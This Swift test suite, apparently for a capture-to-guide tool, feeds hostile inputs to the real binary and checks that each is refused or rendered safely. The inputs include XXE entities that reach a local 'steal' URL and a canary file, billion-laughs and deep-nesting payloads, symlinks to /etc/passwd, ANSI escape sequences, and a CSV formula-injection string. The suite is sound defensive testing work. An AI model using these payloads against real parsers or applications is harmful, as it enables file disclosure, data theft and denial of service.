import Foundation
import Testing
import WaymarkTestSupport
import WaymarkXML
#if canImport(Glibc)
import Glibc
#endif

/// Captures written by an attacker, run through the real binary the way CI runs it on every push.
///
/// Each case must end in a clean exit 2 with a diagnostic, or in a safe rendering; never a crash, a hang, a file
/// read or written outside the allowed folders, or a control byte on the terminal. Cases already covered elsewhere
/// (XXE with a file entity and billion laughs through validate/inspect/import in `NativeBadInputTests`, zip slip
/// and zip bombs in `StepsRecorderZipTests`, HTML and Markdown in labels in `Tests/consumers/test_guides.py`) are
/// not repeated here.
@Suite struct HostileInputTests {
    // MARK: Running with a deadline

    struct Run: CustomStringConvertible {
        var status: Int32
        var stdout: Data
        var stderr: Data
        var timedOut: Bool
        var seconds: Double
        var text: String { String(decoding: stdout + stderr, as: UTF8.self) }
        var description: String {
            "exit \(status)\(timedOut ? " (killed after timeout)" : "") in \(String(format: "%.1f", seconds)) s\n"
                + "--- stdout\n\(String(decoding: stdout.prefix(4000), as: UTF8.self))\n"
                + "--- stderr\n\(String(decoding: stderr.prefix(4000), as: UTF8.self))"
        }
    }

    /// Runs `waymark ARGS` in `directory`, killing it after `timeout` seconds: a hang is a failure, not a stuck suite.
    static func run(_ arguments: [String], in directory: URL, timeout: Double = 60) throws -> Run {
        let scratch = Fixtures.temporaryDirectory("hostile-run")
        defer { try? FileManager.default.removeItem(at: scratch) }
        let outURL = scratch.appendingPathComponent("stdout"), errURL = scratch.appendingPathComponent("stderr")
        FileManager.default.createFile(atPath: outURL.path, contents: nil)
        FileManager.default.createFile(atPath: errURL.path, contents: nil)
        let process = Process()
        process.executableURL = CLIRunner.binary
        process.arguments = arguments
        process.currentDirectoryURL = directory
        var environment = ProcessInfo.processInfo.environment
        environment["NO_COLOR"] = "1"
        process.environment = environment
        let outHandle = try FileHandle(forWritingTo: outURL), errHandle = try FileHandle(forWritingTo: errURL)
        process.standardOutput = outHandle
        process.standardError = errHandle
        process.standardInput = FileHandle.nullDevice
        let start = Date()
        try process.run()
        var timedOut = false
        while process.isRunning {
            if Date().timeIntervalSince(start) > timeout {
                timedOut = true
                kill(process.processIdentifier, SIGKILL)
                break
            }
            usleep(20_000)
        }
        process.waitUntilExit()
        try outHandle.close()
        try errHandle.close()
        return Run(status: process.terminationStatus, stdout: try Data(contentsOf: outURL),
                   stderr: try Data(contentsOf: errURL), timedOut: timedOut,
                   seconds: Date().timeIntervalSince(start))
    }

    /// Every file under `folder`, relative paths with their bytes.
    static func tree(_ folder: URL) -> [String: Data] {
        var out: [String: Data] = [:]
        guard let enumerator = FileManager.default.enumerator(at: folder, includingPropertiesForKeys: nil) else { return out }
        let root = folder.standardizedFileURL.resolvingSymlinksInPath().path
        for case let url as URL in enumerator {
            let values = try? url.resourceValues(forKeys: [.isRegularFileKey, .isSymbolicLinkKey])
            guard values?.isRegularFile == true || values?.isSymbolicLink == true else { continue }
            let path = url.standardizedFileURL.resolvingSymlinksInPath().path
            let relative = path.hasPrefix(root + "/") ? String(path.dropFirst(root.count + 1)) : url.lastPathComponent
            out[relative] = values?.isSymbolicLink == true ? Data() : FileManager.default.contents(atPath: url.path)
        }
        return out
    }

    /// A folder with `files` written into it.
    static func folder(_ label: String, _ files: [String: Data]) throws -> URL {
        let dir = Fixtures.temporaryDirectory("hostile-" + label)
        for (name, data) in files {
            let url = dir.appendingPathComponent(name)
            try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try data.write(to: url)
        }
        return dir
    }

    static func json(_ object: Any) -> Data {
        try! JSONSerialization.data(withJSONObject: object, options: [.sortedKeys])
    }

    /// A native JSON capture with the given steps.
    static func capture(_ id: String, title: String = "Hostile", steps: [[String: Any]], extra: [String: Any] = [:]) -> Data {
        var object: [String: Any] = ["waymark": 1, "id": id, "title": title, "steps": steps]
        for (key, value) in extra { object[key] = value }
        return json(object)
    }

    // MARK: XML that reaches outside the document

    struct HostileDocument: CustomStringConvertible, Sendable {
        var name: String
        var text: String
        var description: String { name }
    }

    static let canaryFile: URL = {
        let dir = Fixtures.temporaryDirectory("hostile-canary")
        let url = dir.appendingPathComponent("canary.txt")
        try! "HOSTILE-CANARY-5d1e".write(to: url, atomically: true, encoding: .utf8)
        return url
    }()

    static let documents: [HostileDocument] = [
        HostileDocument(name: "xxe-http.xml", text: """
            <?xml version="1.0"?>
            <!DOCTYPE capture [ <!ENTITY remote SYSTEM "http://127.0.0.1:9/steal"> ]>
            <capture version="1" id="x"><title>&remote;</title><steps/></capture>
            """),
        HostileDocument(name: "xxe-parameter.xml", text: """
            <?xml version="1.0"?>
            <!DOCTYPE capture [ <!ENTITY % file SYSTEM "file://\(canaryFile.path)"> %file; ]>
            <capture version="1" id="x"><title>T</title><steps/></capture>
            """),
        HostileDocument(name: "billion-laughs.xml", text: NativeBadInputTests.billionLaughs),
        HostileDocument(name: "quadratic.xml", text: """
            <?xml version="1.0"?>
            <!DOCTYPE capture [ <!ENTITY big "\(String(repeating: "A", count: 50_000))"> ]>
            <capture version="1" id="x"><title>\(String(repeating: "&big;", count: 50_000))</title><steps/></capture>
            """),
        HostileDocument(name: "public-dtd.xml", text: """
            <?xml version="1.0"?>
            <!DOCTYPE capture PUBLIC "-//Evil//DTD//EN" "http://127.0.0.1:9/evil.dtd">
            <capture version="1" id="x"><title>T</title><steps/></capture>
            """),
    ]

    @Test("XML with a DOCTYPE is refused by every command, build included", arguments: documents)
    func doctypeRefusedEverywhere(document: HostileDocument) throws {
        let dir = try Self.folder("doctype", [document.name: Data(document.text.utf8)])
        defer { try? FileManager.default.removeItem(at: dir) }
        for arguments in [["validate", document.name], ["inspect", document.name], ["build", document.name, "--out", "out"]] {
            let result = try Self.run(arguments, in: dir, timeout: 120)
            #expect(result.status == 2 && !result.timedOut, "\(arguments): \(result)")
            #expect(result.text.contains("error[xml.doctype]"), "\(arguments): \(result)")
            #expect(!result.text.contains("HOSTILE-CANARY"))
        }
        // The build wrote the shared files only: no guide for the refused capture.
        #expect(!FileManager.default.fileExists(atPath: dir.appendingPathComponent("out/x").path))
    }

    @Test func xincludeIsNeverFollowed() throws {
        let doc = """
            <?xml version="1.0"?>
            <capture version="1" id="xi" xmlns:xi="http://www.w3.org/2001/XInclude">
              <title>Include <xi:include href="file://\(Self.canaryFile.path)" parse="text"/></title>
              <steps>
                <step action="note"><note><xi:include href="\(Self.canaryFile.path)" parse="text"/></note></step>
                <xi:include href="\(Self.canaryFile.path)" parse="xml"/>
              </steps>
            </capture>
            """
        let dir = try Self.folder("xinclude", ["xi.xml": Data(doc.utf8)])
        defer { try? FileManager.default.removeItem(at: dir) }
        for arguments in [["validate", "xi.xml"], ["inspect", "xi.xml"], ["import", "xi.xml"], ["build", "xi.xml", "--out", "out"]] {
            let result = try Self.run(arguments, in: dir, timeout: 120)
            #expect([0, 2].contains(result.status) && !result.timedOut, "\(arguments): \(result)")
            #expect(!result.text.contains("HOSTILE-CANARY"), "\(arguments): \(result)")
        }
        for (path, data) in Self.tree(dir) {
            #expect(!String(decoding: data, as: UTF8.self).contains("HOSTILE-CANARY"), "\(path) holds the included file")
        }
    }

    // MARK: Size and depth

    @Test("100,000 levels of nesting end in a depth error, not a stack overflow", arguments: [
        "deep-array.json", "deep-object.json", "deep.xml",
    ])
    func hundredThousandLevels(name: String) throws {
        let depth = 100_000
        let text: String
        switch name {
        case "deep-array.json":
            text = "{\"waymark\": 1, \"id\": \"x\", \"title\": \"T\", \"steps\": " + String(repeating: "[", count: depth)
                + String(repeating: "]", count: depth) + "}"
        case "deep-object.json":
            text = "{\"waymark\": 1, \"id\": \"x\", \"title\": \"T\", \"steps\": [{\"action\": \"click\", \"target\": "
                + String(repeating: "{\"a\":", count: depth) + "1" + String(repeating: "}", count: depth) + "}]}"
        default:
            text = "<capture version=\"1\" id=\"x\"><title>T</title><steps>" + String(repeating: "<s>", count: depth)
                + String(repeating: "</s>", count: depth) + "</steps></capture>"
        }
        let dir = try Self.folder("deep", [name: Data(text.utf8)])
        defer { try? FileManager.default.removeItem(at: dir) }
        for arguments in [["validate", name], ["build", name, "--out", "out"]] {
            let result = try Self.run(arguments, in: dir, timeout: 60)
            #expect(result.status == 2 && !result.timedOut, "\(arguments): \(result)")
            #expect(result.text.contains(name.hasSuffix(".json") ? "error[json.depth]" : "error[xml."), "\(arguments): \(result)")
        }
    }

    @Test("Entity-free blow-ups finish without hanging", arguments: ["attributes.xml", "duplicate-keys.json", "long-line.json", "many-steps.xml"])
    func blowUps(name: String) throws {
        let text: String
        switch name {
        case "attributes.xml":
            // 100,000 distinct attributes on one element: duplicate-attribute checks must not be quadratic.
            text = "<capture version=\"1\" id=\"x\"><title>T</title><steps><step action=\"click\" "
                + (0..<100_000).map { "a\($0)=\"v\"" }.joined(separator: " ") + "/></steps></capture>"
        case "duplicate-keys.json":
            text = "{\"waymark\": 1, \"id\": \"x\", \"title\": \"T\", \"steps\": [{\"action\": \"click\", "
                + String(repeating: "\"k\": \"v\", ", count: 200_000) + "\"value\": \"v\"}]}"
        case "long-line.json":
            // One 8 MB label on a single line.
            text = "{\"waymark\": 1, \"id\": \"x\", \"title\": \"T\", \"steps\": [{\"action\": \"click\", \"target\": {\"label\": \""
                + String(repeating: "Save ", count: 1_600_000) + "\"}}]}"
        default:
            text = "<capture version=\"1\" id=\"x\"><title>T</title><steps>"
                + String(repeating: "<step action=\"click\"><target><label>OK</label></target></step>", count: 20_000)
                + "</steps></capture>"
        }
        let dir = try Self.folder("blowup", [name: Data(text.utf8)])
        defer { try? FileManager.default.removeItem(at: dir) }
        // No wall-clock target here (the machine is shared and noisy; speed lives in `make bench`): the kill after
        // 180 s catches a hang or a quadratic blow-up, which on these sizes takes hours, not seconds.
        for arguments in [["validate", name], ["inspect", name]] {
            let result = try Self.run(arguments, in: dir, timeout: 180)
            #expect([0, 2].contains(result.status) && !result.timedOut, "\(arguments): \(result)")
            // Lines printed for a terminal stay bounded whatever the label's length.
            let longest = result.stdout.split(separator: 0x0A).map(\.count).max() ?? 0
            #expect(longest < 4096, "\(arguments): a \(longest)-byte line was printed")
        }
    }

    // MARK: Bytes that are not text

    @Test func invalidUTF8AndNULBytesAreErrors() throws {
        let badUTF8 = Data("{\"waymark\": 1, \"id\": \"x\", \"title\": \"T".utf8) + Data([0xC3, 0x28, 0xFF, 0xFE])
            + Data("\", \"steps\": []}".utf8)
        let rawNUL = Data("{\"waymark\": 1, \"id\": \"x\", \"title\": \"T".utf8) + Data([0x00])
            + Data("\", \"steps\": []}".utf8)
        let xmlBadUTF8 = Data("<capture version=\"1\" id=\"x\"><title>".utf8) + Data([0xC3, 0x28])
            + Data("</title><steps/></capture>".utf8)
        let dir = try Self.folder("bytes", ["bad-utf8.json": badUTF8, "nul.json": rawNUL, "bad-utf8.xml": xmlBadUTF8])
        defer { try? FileManager.default.removeItem(at: dir) }
        for name in ["bad-utf8.json", "nul.json", "bad-utf8.xml"] {
            for command in ["validate", "inspect", "build"] {
                let result = try Self.run(command == "build" ? [command, name, "--out", "out"] : [command, name], in: dir)
                #expect(result.status == 2, "\(command) \(name): \(result)")
                #expect(result.text.contains(name + ":"), "\(command) \(name): \(result)")
                #expect(!result.stdout.contains(0) && !result.stderr.contains(0))
            }
        }
    }

    @Test func escapedControlCharactersNeverReachTheTerminalOrTheGuides() throws {
        let esc = "\u{1B}"
        let hostile = "Save\(esc)[2J\(esc)]0;pwned\u{07}\(esc)[31mred\u{0}nul\u{08}\r\u{9B}31m"
        let data = Self.capture("ansi", title: "Title \(hostile)", steps: [
            ["action": "click", "target": ["label": hostile, "context": hostile]],
            ["action": "type", "target": ["label": "Field"], "value": hostile],
            ["action": "teleport", "value": hostile],
            ["action": "note", "note": hostile],
        ], extra: ["owner": hostile, "application": hostile])
        let dir = try Self.folder("ansi", ["ansi.json": data])
        defer { try? FileManager.default.removeItem(at: dir) }
        for arguments in [["validate", "ansi.json"], ["inspect", "ansi.json"], ["import", "ansi.json", "--to", "xml"],
                          ["build", "ansi.json", "--out", "out"]] {
            let result = try Self.run(arguments, in: dir)
            #expect(result.status == 0 || arguments[0] == "import", "\(arguments): \(result)")
            for byte: UInt8 in [0x1B, 0x07, 0x08, 0x00, 0x0D] {
                #expect(!result.stdout.contains(byte) && !result.stderr.contains(byte), "\(arguments) printed byte \(byte)")
            }
            #expect(!result.text.contains("\u{9B}"), "\(arguments) printed a C1 control")
        }
        // Generated files hold no terminal control either (people `cat` job aids and read captions in terminals).
        for (path, data) in Self.tree(dir.appendingPathComponent("out")) where !path.hasPrefix("ansi/images/") {
            #expect(!data.contains(0x1B) && !data.contains(0x00) && !data.contains(0x07), "\(path) holds a control byte")
        }
    }

    // MARK: Screenshots that point elsewhere

    @Test func screenshotsThatAreDevicesPipesOrOutsideNeverHangAndAreLeftOut() throws {
        let png = Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]) + Data(repeating: 0, count: 64)
        let shots = ["shots/zero.png", "shots/random.png", "shots/pipe.png", "shots/passwd.png", "shots/ok.png",
                     "shots/dir.png", "shots/up.png"]
        let data = Self.capture("shots", steps: shots.map { ["action": "click", "target": ["label": "OK"], "screenshot": ["path": $0]] })
        let dir = try Self.folder("shots", ["shots.json": data, "shots/ok.png": png])
        defer { try? FileManager.default.removeItem(at: dir) }
        let fm = FileManager.default
        try fm.createSymbolicLink(atPath: dir.appendingPathComponent("shots/zero.png").path, withDestinationPath: "/dev/zero")
        try fm.createSymbolicLink(atPath: dir.appendingPathComponent("shots/random.png").path, withDestinationPath: "/dev/urandom")
        try fm.createSymbolicLink(atPath: dir.appendingPathComponent("shots/passwd.png").path, withDestinationPath: "/etc/passwd")
        try fm.createDirectory(at: dir.appendingPathComponent("shots/dir.png"), withIntermediateDirectories: true)
        try fm.createSymbolicLink(atPath: dir.appendingPathComponent("shots/up.png").path, withDestinationPath: "../../../../../../dev/urandom")
        #expect(mkfifo(dir.appendingPathComponent("shots/pipe.png").path, 0o644) == 0)
        let before = Self.tree(dir)

        let result = try Self.run(["build", "shots.json", "--out", "out"], in: dir, timeout: 60)
        #expect(result.status == 0 && !result.timedOut, "\(result)")
        let out = Self.tree(dir.appendingPathComponent("out"))
        #expect(out.keys.filter { $0.hasPrefix("shots/images/") }.sorted() == ["shots/images/step-05.png"])
        #expect(!out.values.contains { String(decoding: $0, as: UTF8.self).contains("root:x:0:0") })
        // Nothing was written beside the capture: the input folder is unchanged apart from out/.
        let after = Self.tree(dir).filter { !$0.key.hasPrefix("out/") }
        #expect(after == before)
        #expect(result.text.contains("image.not-a-file") || result.text.contains("image.outside-capture-folder"))

        // Absolute and `..` paths written in the capture itself are refused by the importer: exit 2, nothing read.
        let direct = Self.capture("direct", steps: ["/dev/zero", "../../../../../../dev/urandom", "/etc/passwd"].map {
            ["action": "click", "target": ["label": "OK"], "screenshot": ["path": $0]]
        })
        try direct.write(to: dir.appendingPathComponent("direct.json"))
        let refused = try Self.run(["build", "direct.json", "--out", "out2"], in: dir, timeout: 60)
        #expect(refused.status == 2 && !refused.timedOut, "\(refused)")
        #expect(refused.text.contains("error[capture.screenshot-path]"), "\(refused)")
        #expect(!Self.tree(dir.appendingPathComponent("out2")).keys.contains { $0.hasPrefix("direct/") })
    }

    @Test("A capture file that is a device or a pipe is refused, never read forever", arguments: ["zero", "pipe"])
    func inputThatIsNotAFile(kind: String) throws {
        let dir = Fixtures.temporaryDirectory("hostile-device")
        defer { try? FileManager.default.removeItem(at: dir) }
        let path = dir.appendingPathComponent("capture.json").path
        if kind == "zero" {
            try FileManager.default.createSymbolicLink(atPath: path, withDestinationPath: "/dev/zero")
        } else {
            #expect(mkfifo(path, 0o644) == 0)
        }
        for arguments in [["validate", "capture.json"], ["inspect", "capture.json"], ["build", "capture.json", "--out", "out"],
                          ["build", ".", "--out", "out"]] {
            let result = try Self.run(arguments, in: dir, timeout: 120)
            #expect(!result.timedOut, "\(arguments): \(result)")
            #expect([0, 2].contains(result.status), "\(arguments): \(result)")
            if arguments[1] == "capture.json" {
                #expect(result.status == 2 && result.text.contains("input.not-a-file"), "\(arguments): \(result)")
            }
        }
    }

    // MARK: Labels that try to become markup, templates, speech or formulas

    @Test func templateSpeechAndFormulaInjectionRenderAsText() throws {
        let labels = ["{{{triple}}}", "{{& amp}}", "{{> partial}}", "{{=<% %>=}}", "<speak><break time=\"10s\"/></speak>",
                      "<prosody rate=\"x-fast\">fast</prosody>", "]]><evil/>", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
                      "@SUM(A1)", "\tTAB", "<!-- hidden -->", "[link](javascript:alert(1))", "![img](http://127.0.0.1:9/x.png)",
                      "00:00:01.000 --> 00:00:09.000", "-->", "<v Mallory>", "<c.evil>x</c>", "&amp; &lt;", "1\n\n2\n00:00:00,000 --> 00:00:05,000"]
        let steps: [[String: Any]] = labels.map { ["action": "click", "target": ["label": $0]] }
        let dir = try Self.folder("inject", ["inject.json": Self.capture("inject", title: "{{{title}}} =1+1", steps: steps)])
        defer { try? FileManager.default.removeItem(at: dir) }
        let result = try Self.run(["build", "inject.json", "--out", "out"], in: dir)
        #expect(result.status == 0, "\(result)")
        let out = Self.tree(dir.appendingPathComponent("out"))
        let html = String(decoding: out["inject/guide.html"] ?? Data(), as: UTF8.self)
        #expect(!html.isEmpty)
        // Raw markup from labels never appears unescaped in HTML.
        for raw in ["<speak>", "<prosody", "<evil/>", "<!-- hidden -->", "<break"] {
            #expect(!html.contains(raw), "guide.html contains \(raw) unescaped")
        }
        // Mustache delimiters in data are printed, never expanded (a template engine would drop or resolve them).
        #expect(html.contains("{{{triple}}}") || html.contains("{{{triple}}}".replacingOccurrences(of: "{", with: "&#123;")))
        // Markdown from labels never becomes a live link or image in the HTML.
        #expect(!html.contains("href=\"javascript:") && !html.contains("src=\"http://127.0.0.1"))
        let markdown = String(decoding: out["inject/guide.md"] ?? Data(), as: UTF8.self)
        #expect(!markdown.contains("](javascript:alert(1))") || markdown.contains("\\[link\\]"))
        #expect(!markdown.contains("![img](http://127.0.0.1:9/x.png)"))
        // Formula characters: no output is a spreadsheet (CSV) file, so labels keep their text unchanged.
        #expect(!out.keys.contains { $0.hasSuffix(".csv") }, "a CSV output now exists: neutralise leading = + - @ in it")
        #expect(html.contains("=cmd|&#39; /C calc&#39;!A0") || html.contains("=cmd|' /C calc'!A0") || html.contains("=cmd|&apos; /C calc&apos;!A0"))

        // Narration: SSML is well-formed, and labels never become SSML elements or attributes.
        let ssml = try #require(out["inject/narration.ssml"])
        let root = try XMLDocumentParser.parse(ssml, file: "narration.ssml").get()
        func elements(_ element: XMLElement) -> [XMLElement] {
            [element] + element.children.flatMap { content -> [XMLElement] in
                if case .element(let child) = content { return elements(child) }
                return []
            }
        }
        let all = elements(root)
        #expect(!all.contains { ["evil", "v", "c"].contains($0.name) }, "a label became an SSML element")
        #expect(!all.contains { $0.attributes.contains { $0.value == "x-fast" || $0.value == "10s" } }, "a label set an SSML attribute")
        // Captions: every "-->" is a cue timing line of Waymark's own; label text cannot start a cue.
        for name in ["inject/captions.vtt", "inject/captions.srt"] {
            let text = String(decoding: try #require(out[name]), as: UTF8.self)
            let timing = name.hasSuffix(".vtt")
                ? #/^\d{2}:\d{2}:\d{2}\.\d{3} --> \d{2}:\d{2}:\d{2}\.\d{3}$/#
                : #/^\d{2}:\d{2}:\d{2},\d{3} --> \d{2}:\d{2}:\d{2},\d{3}$/#
            for line in text.split(separator: "\n", omittingEmptySubsequences: false) where line.contains("-->") {
                #expect(line.wholeMatch(of: timing) != nil, "\(name): injected cue line \(line)")
            }
            if name.hasSuffix(".vtt") { #expect(!text.contains("<v Mallory>") && !text.contains("<c.evil>")) }
        }
        // The shot list is valid JSON whatever the labels hold.
        #expect((try? JSONSerialization.jsonObject(with: out["inject/shotlist.json"] ?? Data())) != nil)
    }

    // MARK: Secrets

    @Test func secretsNeverReachAnyOutputOrTheTerminal() throws {
        let card = "4111 1111 1111 1111", token = "tok_live_9f8e7d6c5b4a", password = "Correct-Horse-42"
        let ssn = "078-05-1120", iban = "DE89370400440532013000"
        let data = Self.capture("secrets", title: "Refund \(card)", steps: [
            ["action": "type", "target": ["label": "Password"], "value": password],
            ["action": "type", "target": ["label": "API token", "selectors": ["#apiToken"]], "value": token],
            ["action": "type", "target": ["label": "Card number"], "value": card],
            ["action": "type", "target": ["label": "Reference"], "value": "Ref \(ssn)"],
            ["action": "type", "target": ["label": "Account"], "value": iban],
            ["action": "note", "note": "Your password is \(password); the token is \(token)."],
            ["action": "navigate", "url": "https://pay.example/refund?token=\(token)&ssn=\(ssn)"],
            ["action": "click", "target": ["label": "Refund \(card)"]],
        ], extra: ["purpose": "Refund card \(card) and IBAN \(iban)."])
        let config = """
            redact:
              - '\\b(?:\\d[ -]?){13,16}\\b'
              - '\\d{3}-\\d{2}-\\d{4}'
              - '[A-Z]{2}\\d{2}[A-Z0-9]{11,30}'
            """
        let dir = try Self.folder("secrets", ["in/secrets.json": data, "waymark.yml": Data(config.utf8)])
        defer { try? FileManager.default.removeItem(at: dir) }
        var printed = ""
        for arguments in [["build", "in", "--out", "out"], ["inspect", "in/secrets.json"], ["validate", "in/secrets.json"],
                          ["check", "in", "--out", "out", "--report", "json"], ["check", "in", "--out", "out", "--report", "junit"],
                          ["narrate", "in/secrets.json", "--out", "narration"], ["diff", "in/secrets.json", "in/secrets.json"]] {
            let result = try Self.run(arguments, in: dir)
            #expect(result.status == 0, "\(arguments): \(result)")
            printed += result.text
        }
        for (path, bytes) in Self.tree(dir.appendingPathComponent("narration")) {
            for secret in [card, token, password, ssn, iban] {
                #expect(!String(decoding: bytes, as: UTF8.self).contains(secret), "narration/\(path) contains \(secret)")
            }
        }
        let outputs = Self.tree(dir.appendingPathComponent("out"))
        #expect(outputs.keys.contains("secrets/guide.html"))
        for secret in [card, token, password, ssn, iban, "4111"] {
            #expect(!printed.contains(secret), "\(secret) was printed")
            // The stat cache is file sizes, inode numbers and times: "4111" can be part of a nanosecond count there.
            for (path, bytes) in outputs where !(secret == "4111" && path == ".waymark-stat-cache") {
                #expect(!String(decoding: bytes, as: UTF8.self).contains(secret), "\(path) contains \(secret)")
            }
        }
    }
}
